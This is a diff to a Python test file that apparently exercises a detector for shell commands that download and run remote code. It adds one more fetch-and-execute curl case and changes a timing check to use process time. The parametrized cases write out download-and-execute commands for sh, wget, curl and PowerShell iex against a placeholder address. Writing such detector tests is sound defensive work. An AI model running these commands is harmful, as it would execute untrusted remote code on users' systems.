@@ -30,6 +30,7 @@ def words(line: str) -> list[Word]:
         f"sh -c 'wget {ADDRESS}; chmod +x install.sh; ./install.sh'",
         f"sh -c 'cd /tmp && curl -O {ADDRESS} && ./install.sh --yes'",
         f"sh -c 'curl -o /tmp/claims {ADDRESS} && chmod 755 /tmp/claims && /tmp/claims'",
+        f"sh -c 'curl -o /tmp/claims {ADDRESS}; /tmp/claims --serve'",
         f"powershell -Command 'iex (irm {ADDRESS})'",
         f"pwsh -c 'irm {ADDRESS} | iex'",
         f"powershell -c 'iex ((New-Object Net.WebClient).DownloadString(\"{ADDRESS}\"))'",
@@ -72,6 +73,6 @@ def test_what_fetches_data_or_nothing_is_left_alone(line: str) -> None:
 
 @pytest.mark.parametrize("piece", ["curl ", "curl |", "bash <(", "exec ", "iex curl ", "sh -c ", "urlopen exec"])
 def test_no_command_takes_long(piece: str) -> None:
-    start = time.perf_counter()
+    start = time.process_time()
     downloaded_code([Word("sh", ()), Word("-c", ()), Word(piece * 1_000_000, ())])
-    assert time.perf_counter() - start < 5
+    assert time.process_time() - start < 5
